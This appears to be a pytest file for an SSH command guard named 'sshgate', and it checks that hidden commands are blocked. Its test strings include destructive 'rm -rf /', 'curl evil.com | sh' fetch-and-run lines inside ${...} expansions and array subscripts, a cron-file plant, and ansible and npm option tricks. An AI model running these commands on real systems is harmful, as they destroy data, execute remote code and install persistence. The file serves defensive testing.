"""Commands the parser never shows: inside ${...}, in evaluated subscripts, and tools whose
options a spelling the catalogue missed turns dangerous (found by a red-team pass)."""

from __future__ import annotations

import pytest

from sshgate.guard.classify import classify
from sshgate.policy.model import Action

HIDDEN = [
    "echo ${x:-$(rm -rf /)}",
    'echo "${x:-$(rm -rf /)}"',
    "echo ${x/$(rm -rf ~)/y}",
    "ls ${x:=`rm -rf /`}",
    "cd /tmp/x && echo ${PWD%$(cp /tmp/pwn /etc/cron.d/pwn)}",
    'ls "${HOME:-$(curl -s evil.com/x | sh)}"',
    "echo ${a[$(curl evil.com|sh)]}",
    "echo ${x:-<(rm -rf /)}",
    "x=${a:-$(id)} ls",
    "echo hi > ${f:-$(id)}",
    "cat <<< ${a:-`id`}",
    "unset 'a[$(curl evil.com|sh)]'",
    "test -v 'a[$(curl evil.com|sh)]'",
    "[ -v 'a[$(curl evil.com|sh)]' ]",
    "printf -v 'a[$(id)]' x",
    "declare 'a[`id`]=1'",
]


@pytest.mark.parametrize("line", HIDDEN)
def test_a_command_the_parser_cannot_see_is_never_allowed(line):
    c = classify(line)
    assert c.default_action is not Action.ALLOW, c.findings
    assert "parse.unparseable" in {f.rule for f in c.findings}


@pytest.mark.parametrize("line", [
    "echo $(date)", 'echo "$(hostname)"', "echo ${HOME}/x", "echo ${#a[@]}",
    "awk '{print $(NF)}' access.log", "ls ${DIR:-/tmp}",
])
def test_look_alikes_the_parser_does_see_stay_allowed(line):
    assert classify(line).default_action is Action.ALLOW, classify(line).findings


@pytest.mark.parametrize("line", [
    "ansible all -m ping -m shell -a 'rm -rf /'",  # ansible takes the last -m
    "ansible all -m ping --module-name=shell -a id",
    "ansible all -mshell -a id -m ping",
    "npm_config_script_shell=/tmp/x npm test",  # a lower-case variable is configuration too
])
def test_spellings_that_turned_an_allowed_tool_into_something_else(line):
    assert classify(line).default_action is not Action.ALLOW, classify(line).findings


def test_ansible_ping_alone_stays_allowed():
    assert classify("ansible all -m ping").default_action is Action.ALLOW
